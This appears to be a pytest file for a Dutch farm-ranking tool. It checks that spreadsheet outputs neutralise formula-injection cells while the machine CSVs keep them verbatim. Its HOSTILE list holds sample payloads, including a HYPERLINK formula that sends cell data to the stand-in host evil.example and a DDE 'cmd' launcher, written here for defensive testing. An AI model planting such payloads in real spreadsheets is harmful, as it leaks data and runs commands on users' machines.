"""Spreadsheet formula injection: cells that a spreadsheet would run as formulas are neutralised in
the outputs for people (ranking_excel.csv, rejected_excel.csv, ranking.xlsx) and written as read
in the machine lists (ranking.csv, rejected.csv, the region lists)."""

from __future__ import annotations

import csv
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from conftest import X0, Y0, read_rows, square, write_csv, write_regions
from vbr.locale import t
from vbr.writers.lists import excel_table
from vbr.writers.text import looks_like_formula, may_hold_formulas, replace_in_all

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"klik")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def injected(vbr, tmp_path, one_area) -> Path:
    rows = [
        [f"farm-{i}", X0 - 100 - i, Y0 + 500, 1000 + i, 10_000, cell, "-12,5"]
        for i, cell in enumerate(HOSTILE)
    ]
    rows.append(["=1+1", X0 - 50, Y0, 500, 20_000, "plain", "-3"])
    rows.append(["bad", X0, Y0, "=1+1", 1, "@evil", "x"])  # rejected: nh3_kg not a number
    farms = write_csv(
        tmp_path / "farms.csv",
        ["farm_id", "x", "y", "nh3_kg", "subsidy_eur", "note", "=cost"],
        rows,
    )
    regions = write_regions(tmp_path / "regions.geojson", [("Veluwe", square(X0 - 5000, Y0, 9000))])
    out = tmp_path / "out"
    code, _, err = vbr(
        "run", "--farms", farms, "--natura", one_area, "--regions", regions, "--out", out, "--quiet"
    )
    assert code == 0, err
    return out


def read_excel_csv(path: Path) -> list[list[str]]:
    data = path.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")  # UTF-8 with BOM, so Excel reads it as UTF-8
    with open(path, encoding="utf-8-sig", newline="") as fh:
        return list(csv.reader(fh, delimiter=";"))


@pytest.mark.slow
def test_machine_lists_keep_the_cells_exactly_as_read(injected):
    ranked = read_rows(injected / "ranking.csv")
    assert sorted(r["note"] for r in ranked) == sorted([*HOSTILE, "plain"])
    assert "=1+1" in {r["farm_id"] for r in ranked}
    assert {r["=cost"] for r in ranked} == {"-12,5", "-3"}
    region = read_rows(injected / "veluwe" / "ranking.csv")
    assert sorted(r["note"] for r in region) == sorted([*HOSTILE, "plain"])
    rejected = read_rows(injected / "rejected.csv")
    assert [(r["farm_id"], r["note"]) for r in rejected] == [("bad", "@evil")]


@pytest.mark.slow
@pytest.mark.parametrize("name", ["ranking_excel.csv", "veluwe/ranking_excel.csv"])
def test_excel_csv_prefixes_formula_text_and_leaves_numbers_alone(injected, name):
    header, *rows = read_excel_csv(injected / name)
    assert "'=cost" in header and "=cost" not in header
    # the run's own columns under their Dutch headers (--lang nl is the default)
    words = {t(f"columns.{c}", "nl"): c for c in ("farm_id", "eur_per_kg", "distance_m")}
    col = {words.get(c, c): i for i, c in enumerate(header)}
    notes = sorted(r[col["note"]] for r in rows)
    assert notes == sorted(["'" + h for h in HOSTILE] + ["plain"])
    assert "'=1+1" in {r[col["farm_id"]] for r in rows}
    # numbers are not formulas: a negative number keeps its sign and gets no quote
    assert {r[col["'=cost"]] for r in rows} == {"-12,5", "-3"}
    # computed numbers with a decimal comma, for Dutch Excel
    by_id = {r[col["farm_id"]]: r for r in rows}
    machine = {r["farm_id"]: r for r in read_rows(injected / name.replace("_excel", ""))}
    for farm_id, row in by_id.items():
        plain_id = farm_id.removeprefix("'")
        assert row[col["eur_per_kg"]] == machine[plain_id]["eur_per_kg"].replace(".", ",")
        assert row[col["distance_m"]] == machine[plain_id]["distance_m"].replace(".", ",")


@pytest.mark.slow
def test_rejected_excel_csv_is_neutralised_too(injected):
    header, *rows = read_excel_csv(injected / "rejected_excel.csv")
    row = dict(zip(header, rows[0], strict=True))
    assert header[:2] == [t("columns.farm_id", "nl"), t("columns.reason", "nl")]
    assert row["note"] == "'@evil"
    assert row["nh3_kg"] == "'=1+1"


@pytest.mark.slow
def test_xlsx_holds_no_formula_and_marks_formula_text_with_a_quote_prefix(injected):
    wb = openpyxl.load_workbook(injected / "ranking.xlsx")
    formulas, prefixed, seen = [], set(), set()
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    formulas.append((ws.title, cell.coordinate, cell.value))
                if isinstance(cell.value, str):
                    seen.add(cell.value)
                    if cell.quotePrefix:
                        prefixed.add(cell.value)
    assert formulas == []
    # the text is kept as typed (no visible quote), and Excel's quote prefix keeps it text
    # xlsx stores a CR as _x000D_ (Excel decodes it; openpyxl shows it as stored)
    hostile = {h.replace("\r", "_x000D_") for h in HOSTILE}
    assert hostile <= seen
    assert {*hostile, "=1+1", "@evil", "=cost"} <= prefixed
    assert "plain" not in prefixed


def test_looks_like_formula_knows_numbers_from_formulas():
    values = pd.Series(["-12,5", "-3", "+31", "1e-5", "-1.234,5", "-", "-2+3", "=A1", "@x", "a=b"])
    assert looks_like_formula(values).tolist() == [
        False,
        False,
        False,
        False,
        False,
        True,
        True,
        True,
        True,
        False,
    ]


def test_excel_table_gives_numeric_columns_a_decimal_comma_and_no_quote():
    table = pd.DataFrame({"eur_per_kg": ["-0.5", "12"], "note": ["-0.5", "-x"]})
    got = excel_table(table, numeric=["eur_per_kg"])
    assert got.to_dict("list") == {"eur_per_kg": ["-0,5", "12"], "note": ["-0.5", "'-x"]}


_CELLS = st.lists(st.text(alphabet="=+-@\t\r\x00.,;a1 '", max_size=6), max_size=12)


@given(_CELLS)
def test_a_column_passed_over_as_formula_free_has_no_formula_cell(cells):
    # the one-pass check may say "maybe" too often, never "no" where a cell starts a formula
    if not may_hold_formulas(cells):
        assert not looks_like_formula(pd.Series(cells, dtype=object)).any()


@given(_CELLS)
def test_replacing_in_the_joined_column_equals_replacing_cell_by_cell(cells):
    assert replace_in_all(cells, ".", ",") == [c.replace(".", ",") for c in cells]
